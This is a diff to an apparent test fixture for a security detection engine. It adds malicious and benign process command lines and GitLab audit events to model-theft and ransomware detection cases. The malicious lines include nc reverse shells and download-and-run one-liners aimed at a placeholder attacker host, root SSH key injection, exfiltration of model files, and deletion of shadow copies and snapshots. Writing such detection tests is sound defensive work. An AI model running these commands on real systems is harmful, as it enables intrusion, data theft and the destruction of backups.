@@ -27,6 +27,15 @@ def _github(action: str, address: str = THIEF, **more: Any) -> Row:
     }
 
 
+def _gitlab(kind: str, address: str = THIEF, **details: str) -> Row:
+    told = {"author_name": "eve", "target_details": "ml/serve", "ip_address": address, **details}
+    row: Row = {
+        "created_at": None, "author_id": 7, "author_name": "eve", "entity_id": 4, "entity_type": "Project",
+        "entity_path": "ml/serve", "target_type": "Project", "ip_address": address, "details": told,
+    }  # fmt: skip
+    return {**row, "event_type": kind} if kind else row
+
+
 def _pushed(method: str, path: str, address: str = THIEF, status: int = 201) -> Row:
     line = f'{address} - - [<clock>] "{method} /v2/{path} HTTP/1.1" {status} 0 "-" "docker/24"'
     return {"log": line, "stream": "stdout", "kubernetes": {"namespace_name": "ml", "pod_name": "registry-0"}}
@@ -40,13 +49,21 @@ STRANGE: Final = AttackStep(
         (process("./kworker -o stratum+tcp://pool.example.net:3333", "/opt/kworker"),),
         (process("x", "/dev/shm/.cache/.x"),),  # noqa: S108
         (process(f"nc {THIEF} 443 -e /bin/sh", "/usr/bin/nc"),),
+        (process(f"powershell -nop -c IEX (New-Object Net.WebClient).DownloadString('http://{THIEF}/a')"),),
+        (process(f"bash -c wget -q http://{THIEF}/k -O /srv/k && chmod +x /srv/k && /srv/k"),),
+        (process("sh -c echo ssh-ed25519 AAAA x >> /root/.ssh/authorized_keys"),),
+        (process("docker run -it -v /:/host alpine chroot /host", "/usr/bin/docker"),),
     ),
     (
         (process("bash -c </dev/tcp/db.example.org/5432"),),
         (process("sh -c curl -LsSf https://example.org/install.sh | sh"),),
         (process("python train.py --encode base64"),),
+        (process("docker run --gpus all -v /data:/data ml/serve:4", "/usr/bin/docker"),),
+        (process("bash -c wget -q https://example.org/k && chmod +x k"),),
+        (process("sh -c cat /root/.ssh/authorized_keys"),),
         (process("python /tmp/pip-build-1/setup.py", "/usr/bin/python3"),),
         (process("nc -z db 5432", "/usr/bin/nc"),),
+        (process("powershell Invoke-WebRequest https://example.org/data.zip -OutFile data.zip"),),
     ),
 )
 
@@ -57,8 +74,13 @@ SENT: Final = AttackStep(
         (process("rclone.exe --transfers 32 sync D:\\training remote:x", "C:\\Users\\eve\\rclone.exe"),),
         (process(f"curl --upload-file {_PACKED} https://transfer.sh/d.tgz", "/usr/bin/curl"),),
         (process(f"mega-put {_PACKED}", "/usr/bin/mega-put"),),
+        (process(f"scp -r /srv/models root@{THIEF}:/tmp", "/usr/bin/scp"),),
+        (process(f"bash -c tar czf - /srv/models | nc {THIEF} 9001"),),
     ),
     (
+        (process("rsync -a /srv/models/ ada@10.8.0.22:/srv/models/", "/usr/bin/rsync"),),
+        (process(f"scp root@{THIEF}:/tmp/x .", "/usr/bin/scp"),),
+        (process("bash -c tar czf - /srv/models | tee /backup/models.tgz"),),
         (process("rclone listremotes", "/usr/bin/rclone"),),
         (process("curl -F file=@m.json https://models.example.org/v2/models/digits/infer", "/usr/bin/curl"),),
         (process("curl -O https://transfer.sh/get/x", "/usr/bin/curl"),),
@@ -110,7 +132,43 @@ PUSHED: Final = AttackStep(
     ),
 )
 
+UNRECOVERABLE: Final = AttackStep(
+    "what could be restored destroyed",
+    (
+        (process("vssadmin delete shadows /all /quiet", "C:\\Windows\\System32\\vssadmin.exe"),),
+        (process("cipher.exe /e /s:D:\\models", "C:\\Windows\\System32\\cipher.exe"),),
+        (process("find /srv/models -name *.safetensors -exec openssl enc -aes-256-cbc -in {} ;", "/usr/bin/find"),),
+        (process("zfs destroy -r tank/models@nightly", "/usr/sbin/zfs"),),
+        (process("wmic shadowcopy where ID='{1}' delete", "C:\\Windows\\System32\\wbem\\wmic.exe"),),
+    ),
+    (
+        (process("vssadmin list shadows", "C:\\Windows\\System32\\vssadmin.exe"),),
+        (process("cipher.exe /c D:\\models", "C:\\Windows\\System32\\cipher.exe"),),
+        (process("find /srv/models -name *.safetensors -mtime +30", "/usr/bin/find"),),
+        (process("zfs snapshot tank/models@nightly", "/usr/sbin/zfs"),),
+        (process("openssl x509 -in model.pem -noout", "/usr/bin/openssl"),),
+    ),
+)
+
+OPENED_GITLAB: Final = AttackStep(
+    "a project of GitLab opened",
+    (
+        (_gitlab("project_visibility_level_updated", change="visibility_level", to="Public"),),
+        (_gitlab("", change="visibility", to="Public"),),
+        (_gitlab("deploy_key_added", add="deploy_key"),),
+        (_gitlab("protected_branch_removed", remove="protected_branch"),),
+    ),
+    (
+        (_gitlab("project_visibility_level_updated", _DESK, change="visibility_level", to="Private"),),
+        (_gitlab("deploy_key_added", _DESK, add="deploy_key"),),
+        (_gitlab("repository_git_operation"),),
+        (_gitlab("deploy_key_removed", remove="deploy_key"),),
+    ),
+)
+
 DEEDS: Final = {
+    "recovery_inhibited": UNRECOVERABLE,
+    "code_repository_opened_gitlab": OPENED_GITLAB,
     "host_strange_code": STRANGE,
     "data_sent_away": SENT,
     "sensor_alarm": ALARMED,
